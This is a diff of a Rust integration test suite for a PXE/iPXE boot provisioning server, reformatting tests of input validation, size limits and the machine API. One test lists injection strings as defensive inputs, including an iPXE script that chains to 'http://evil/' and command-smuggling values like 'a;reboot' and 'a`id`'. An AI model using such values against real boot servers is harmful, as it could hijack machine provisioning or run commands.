@@ -9,10 +9,18 @@ use serde_json::json;
 #[tokio::test]
 async fn bad_mac_is_400_with_the_reason() {
     let s = Server::start("").await;
-    for p in ["/pxe/nope", "/pxe/aa:bb:cc:dd:ee/plan", "/api/machines/zz:zz:zz:zz:zz:zz", "/pxe/aa:bb:cc:dd:ee:ff:00"] {
+    for p in [
+        "/pxe/nope",
+        "/pxe/aa:bb:cc:dd:ee/plan",
+        "/api/machines/zz:zz:zz:zz:zz:zz",
+        "/pxe/aa:bb:cc:dd:ee:ff:00",
+    ] {
         let (st, e) = s.get_json(p).await;
         assert_eq!(st, 400, "{p}");
-        assert!(e["error"].as_str().unwrap().contains("invalid MAC"), "{p}: {e}");
+        assert!(
+            e["error"].as_str().unwrap().contains("invalid MAC"),
+            "{p}: {e}"
+        );
     }
     let (st, _) = s.get_json("/api/machines").await;
     assert_eq!(st, 200);
@@ -25,17 +33,35 @@ async fn bad_mac_is_400_with_the_reason() {
 async fn oversized_bodies_are_413() {
     let s = Server::start("").await;
     let big = "x".repeat(200 * 1024);
-    let r = s.client.put(s.url(&format!("/api/machines/{MAC}"))).json(&json!({"name": big})).send().await.unwrap();
+    let r = s
+        .client
+        .put(s.url(&format!("/api/machines/{MAC}")))
+        .json(&json!({"name": big}))
+        .send()
+        .await
+        .unwrap();
     assert_eq!(r.status(), 413);
     let e: serde_json::Value = r.json().await.unwrap();
     assert!(e["error"].as_str().unwrap().contains("too large"));
     let huge = json!({"disks": [], "lshw": "y".repeat(5 * 1024 * 1024)});
-    let r = s.client.post(s.url(&format!("/pxe/{MAC}/inventory"))).json(&huge).send().await.unwrap();
+    let r = s
+        .client
+        .post(s.url(&format!("/pxe/{MAC}/inventory")))
+        .json(&huge)
+        .send()
+        .await
+        .unwrap();
     assert_eq!(r.status(), 413);
     // 1 MiB inventory is fine (lshw blobs are big).
     s.pxe(MAC).await;
     let ok = json!({"disks": [], "lshw": "y".repeat(1024 * 1024)});
-    let r = s.client.post(s.url(&format!("/pxe/{MAC}/inventory"))).json(&ok).send().await.unwrap();
+    let r = s
+        .client
+        .post(s.url(&format!("/pxe/{MAC}/inventory")))
+        .json(&ok)
+        .send()
+        .await
+        .unwrap();
     assert_eq!(r.status(), 204);
     s.stop().await;
 }
@@ -43,7 +69,14 @@ async fn oversized_bodies_are_413() {
 #[tokio::test]
 async fn injection_strings_are_refused_at_the_api() {
     let s = Server::start("").await;
-    let evil = ["x\n#!ipxe\nchain http://evil/", "a${net0/mac}", "a;reboot", "a\"b", "a`id`", " lead"];
+    let evil = [
+        "x\n#!ipxe\nchain http://evil/",
+        "a${net0/mac}",
+        "a;reboot",
+        "a\"b",
+        "a`id`",
+        " lead",
+    ];
     for e in evil {
         for field in ["target_disk_serial", "name"] {
             let mut body = json!({"boot_mode": "ipxe-exit"});
@@ -68,16 +101,25 @@ async fn injection_strings_are_refused_at_the_api() {
 async fn host_header_injection_is_refused() {
     let s = Server::start("").await;
     for host in ["evil/x", "a b", "h\tchain", "h${x}", "h;x", "h\"x"] {
-        for path in ["/pxe-bootstrap.ipxe", "/pxe/52:54:00:00:00:01", "/pxe/52:54:00:00:00:01/plan"] {
+        for path in [
+            "/pxe-bootstrap.ipxe",
+            "/pxe/52:54:00:00:00:01",
+            "/pxe/52:54:00:00:00:01/plan",
+        ] {
             let resp = s
-                .raw(&format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"))
+                .raw(&format!(
+                    "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
+                ))
                 .await;
             assert!(resp.starts_with("HTTP/1.1 400"), "{host:?} {path}: {resp}");
             assert!(!resp.contains("chain"), "{resp}");
         }
     }
     let resp = s.raw("GET /pxe-bootstrap.ipxe HTTP/1.0\r\n\r\n").await;
-    assert!(resp.starts_with("HTTP/1.0 400") || resp.starts_with("HTTP/1.1 400"), "{resp}");
+    assert!(
+        resp.starts_with("HTTP/1.0 400") || resp.starts_with("HTTP/1.1 400"),
+        "{resp}"
+    );
     assert!(resp.contains("Host"), "{resp}");
     s.stop().await;
 }
@@ -87,31 +129,86 @@ async fn unknown_mode_unknown_image_missing_binding_unknown_field() {
     let s = Server::start("").await;
     let (st, v) = s.put_machine(MAC, &json!({"boot_mode": "bty-tui"})).await;
     assert_eq!(st, 400);
-    assert!(v["error"].as_str().unwrap().contains("unknown boot mode"), "{v}");
-    let (st, v) = s.put_machine(MAC, &json!({"boot_mode": "bty-flash-once", "image": "nope", "target_disk_serial": "S"})).await;
+    assert!(
+        v["error"].as_str().unwrap().contains("unknown boot mode"),
+        "{v}"
+    );
+    let (st, v) = s
+        .put_machine(
+            MAC,
+            &json!({"boot_mode": "bty-flash-once", "image": "nope", "target_disk_serial": "S"}),
+        )
+        .await;
     assert_eq!(st, 400);
     let msg = v["error"].as_str().unwrap();
-    assert!(msg.contains("not in the catalog") && msg.contains("catalog.toml"), "{msg}");
-    let (st, v) = s.put_machine(MAC, &json!({"boot_mode": "bty-flash-always", "image": "debian-12"})).await;
+    assert!(
+        msg.contains("not in the catalog") && msg.contains("catalog.toml"),
+        "{msg}"
+    );
+    let (st, v) = s
+        .put_machine(
+            MAC,
+            &json!({"boot_mode": "bty-flash-always", "image": "debian-12"}),
+        )
+        .await;
     assert_eq!(st, 400);
-    assert!(v["error"].as_str().unwrap().contains("target_disk_serial"), "{v}");
-    let (st, v) = s.put_machine(MAC, &json!({"boot_mode": "bty-flash-always", "target_disk_serial": "S"})).await;
+    assert!(
+        v["error"].as_str().unwrap().contains("target_disk_serial"),
+        "{v}"
+    );
+    let (st, v) = s
+        .put_machine(
+            MAC,
+            &json!({"boot_mode": "bty-flash-always", "target_disk_serial": "S"}),
+        )
+        .await;
     assert_eq!(st, 400, "{v}");
     let (st, v) = s.put_machine(MAC, &json!({"bty_image_ref": "x"})).await;
     assert_eq!(st, 400);
-    assert!(v["error"].as_str().unwrap().contains("unknown field"), "{v}");
-    let r = s.client.put(s.url(&format!("/api/machines/{MAC}"))).header("content-type", "application/json").body("{not json").send().await.unwrap();
+    assert!(
+        v["error"].as_str().unwrap().contains("unknown field"),
+        "{v}"
+    );
+    let r = s
+        .client
+        .put(s.url(&format!("/api/machines/{MAC}")))
+        .header("content-type", "application/json")
+        .body("{not json")
+        .send()
+        .await
+        .unwrap();
     assert_eq!(r.status(), 400);
-    let r = s.client.put(s.url(&format!("/api/machines/{MAC}"))).body("{}").send().await.unwrap();
+    let r = s
+        .client
+        .put(s.url(&format!("/api/machines/{MAC}")))
+        .body("{}")
+        .send()
+        .await
+        .unwrap();
     assert_eq!(r.status(), 400, "missing content type");
     let (st, _) = s.get_json(&format!("/api/machines/{MAC}")).await;
     assert_eq!(st, 404);
     // Reports with bad fields.
-    let (st, _) = s.post_json(&format!("/pxe/{MAC}/progress"), &json!({"token": "t", "bytes_done": -1, "phase": "writing"})).await;
+    let (st, _) = s
+        .post_json(
+            &format!("/pxe/{MAC}/progress"),
+            &json!({"token": "t", "bytes_done": -1, "phase": "writing"}),
+        )
+        .await;
     assert_eq!(st, 400);
-    let (st, _) = s.post_json(&format!("/pxe/{MAC}/done"), &json!({"token": "t", "ok": true, "sha256": "XYZ"})).await;
+    let (st, _) = s
+        .post_json(
+            &format!("/pxe/{MAC}/done"),
+            &json!({"token": "t", "ok": true, "sha256": "XYZ"}),
+        )
+        .await;
     assert_eq!(st, 400);
-    let (st, _) = s.post_json(&format!("/pxe/{MAC}/done"), &json!({"token": "t", "ok": false, "reason": "r".repeat(3000)})).await;
+    let (st, _) = s
+        .post_json(
+            &format!("/pxe/{MAC}/done"),
+            &json!({"token": "t", "ok": false, "reason": "r".repeat(3000)}),
+        )
+        .await;
     assert_eq!(st, 400);
     // Unknown endpoint and events query.
     let (st, e) = s.get_json("/nope").await;
@@ -141,14 +238,33 @@ async fn machine_api_round_trip_and_delete() {
     assert_eq!(imgs["static_file"]["state"], "ok");
     assert_eq!(imgs["withcache"]["state"], "off");
     let (_, cat) = s.get_text("/catalog.toml").await;
-    assert!(cat.contains("version = 1") && cat.contains("debian-12"), "{cat}");
+    assert!(
+        cat.contains("version = 1") && cat.contains("debian-12"),
+        "{cat}"
+    );
     let (_, doc) = s.get_json("/api/openapi.json").await;
     assert!(doc["paths"]["/pxe/{mac}/plan"]["get"].is_object());
-    let r = s.client.delete(s.url(&format!("/api/machines/{MAC}"))).send().await.unwrap();
+    let r = s
+        .client
+        .delete(s.url(&format!("/api/machines/{MAC}")))
+        .send()
+        .await
+        .unwrap();
     assert_eq!(r.status(), 204);
-    let r = s.client.delete(s.url(&format!("/api/machines/{MAC}"))).send().await.unwrap();
+    let r = s
+        .client
+        .delete(s.url(&format!("/api/machines/{MAC}")))
+        .send()
+        .await
+        .unwrap();
     assert_eq!(r.status(), 404);
-    assert!(s.events(MAC).await.iter().any(|e| e["kind"] == "machine.deleted"), "events kept");
+    assert!(
+        s.events(MAC)
+            .await
+            .iter()
+            .any(|e| e["kind"] == "machine.deleted"),
+        "events kept"
+    );
     // Re-created after delete starts a clean history.
     s.flash(MAC, "bty-flash-once").await;
     let (_, hist) = s.get_json(&format!("/api/machines/{MAC}/cycles")).await;
@@ -156,7 +272,9 @@ async fn machine_api_round_trip_and_delete() {
     let (st, page) = s.get_json(&format!("/api/events?mac={MAC}&limit=2")).await;
     assert_eq!(st, 200);
     let next = page["next_before_id"].as_i64().unwrap();
-    let (_, page2) = s.get_json(&format!("/api/events?mac={MAC}&limit=2&before_id={next}")).await;
+    let (_, page2) = s
+        .get_json(&format!("/api/events?mac={MAC}&limit=2&before_id={next}"))
+        .await;
     assert!(page2["events"][0]["id"].as_i64().unwrap() < next);
     s.stop().await;
 }
